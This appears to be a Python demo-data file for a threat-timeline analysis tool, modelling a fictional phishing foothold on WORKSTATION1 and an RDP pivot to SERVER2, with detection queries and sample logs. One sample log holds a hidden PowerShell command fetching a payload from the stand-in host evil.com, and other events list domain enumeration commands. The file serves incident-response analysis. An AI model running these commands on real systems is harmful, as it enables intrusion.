from threat_timeline.models.artifact import Artifact, ArtifactType
from threat_timeline.models.timeline import TimelineEvent


def demo_events() -> list[TimelineEvent]:
    """Phishing foothold on WORKSTATION1 followed by an RDP pivot to SERVER2."""
    return [
        TimelineEvent(
            id="1",
            timestamp="2024-03-14T10:00",
            title="Initial Access - Phishing Email",
            description="User clicked on malicious link in phishing email",
            tactic="Initial Access",
            technique="Phishing",
            artifacts=[
                Artifact(type=ArtifactType.email, name="From", value="attacker@malicious.com"),
                Artifact(type=ArtifactType.domain, name="URL", value="fake-login.evil.com"),
            ],
            search_query='index=email recipient="victim@company.com" subject="Urgent Invoice Payment"',
            raw_log=(
                "Mar 14 10:00:15 mail-server smtp[12345]: To=victim@company.com "
                'From=attacker@malicious.com Subject="Urgent Invoice Payment"'
            ),
        ),
        TimelineEvent(
            id="2",
            timestamp="2024-03-14T10:05",
            title="Execution - PowerShell Download",
            description="PowerShell used to download malicious payload",
            tactic="Execution",
            technique="PowerShell",
            parent_id="1",
            host="WORKSTATION1",
            artifacts=[
                Artifact(type=ArtifactType.file, name="Script", value="invoice.ps1"),
                Artifact(type=ArtifactType.hash, name="SHA256", value="a1b2c3d4e5f6..."),
            ],
            search_query=(
                'index=windows source="WinEventLog:Microsoft-Windows-PowerShell/Operational" '
                'CommandLine="*Invoke-WebRequest*"'
            ),
            raw_log=(
                'PowerShell.exe -NoP -NonI -W Hidden -Command "Invoke-WebRequest '
                '-Uri http://evil.com/payload -OutFile invoice.ps1"'
            ),
        ),
        TimelineEvent(
            id="3",
            timestamp="2024-03-14T10:07",
            title="Discovery - Network Share Enumeration",
            description="Malware enumerating network shares",
            tactic="Discovery",
            technique="Network Share Discovery",
            parent_id="2",
            artifacts=[
                Artifact(type=ArtifactType.hostname, name="Source", value="WORKSTATION1"),
                Artifact(type=ArtifactType.command, name="Executed", value="net view /all"),
            ],
            raw_log="Process Create: net.exe CommandLine: net view /all",
        ),
        TimelineEvent(
            id="4",
            timestamp="2024-03-14T10:08",
            title="Discovery - User Enumeration",
            description="Malware enumerating domain users",
            tactic="Discovery",
            technique="Account Discovery",
            parent_id="2",
            artifacts=[
                Artifact(type=ArtifactType.hostname, name="Source", value="WORKSTATION1"),
                Artifact(type=ArtifactType.command, name="Executed", value="net user /domain"),
            ],
            raw_log="Process Create: net.exe CommandLine: net user /domain",
        ),
        TimelineEvent(
            id="5",
            timestamp="2024-03-14T10:15",
            title="Persistence - Scheduled Task",
            description="Malware established persistence via scheduled task",
            tactic="Persistence",
            technique="Scheduled Task",
            parent_id="2",
            artifacts=[
                Artifact(type=ArtifactType.file, name="Task Name", value="SystemUpdate"),
                Artifact(type=ArtifactType.file, name="Path", value="C:\\Windows\\Tasks\\update.job"),
            ],
            search_query='index=windows EventCode=4698 TaskName="SystemUpdate"',
        ),
        TimelineEvent(
            id="6",
            timestamp="2024-03-14T10:20",
            title="Lateral Movement - Remote Desktop",
            description="Lateral movement observed to another system",
            tactic="Lateral Movement",
            technique="Remote Desktop Protocol",
            parent_id="2",
            host="WORKSTATION1",
            lateral_movement_target="7",
            artifacts=[
                Artifact(type=ArtifactType.hostname, name="Source Host", value="WORKSTATION1"),
                Artifact(
                    type=ArtifactType.hostname,
                    name="Destination Host",
                    value="SERVER2",
                    linked_value="10.0.0.12",
                ),
            ],
            search_query="index=windows EventCode=4624 LogonType=10 ComputerName=SERVER2",
        ),
        TimelineEvent(
            id="7",
            timestamp="2024-03-14T10:25",
            title="Initial Access on SERVER2",
            description="Initial foothold established via RDP",
            tactic="Initial Access",
            technique="Valid Accounts",
            host="SERVER2",
            user="Administrator",
            lateral_movement_source="6",
            artifacts=[
                Artifact(
                    type=ArtifactType.hostname,
                    name="Source Host",
                    value="SERVER2",
                    linked_value="10.0.0.12",
                ),
                Artifact(type=ArtifactType.user, name="Account", value="Administrator"),
            ],
            raw_log="An account was successfully logged on. Host: SERVER2, Account: Administrator, LogonType: 10",
        ),
    ]
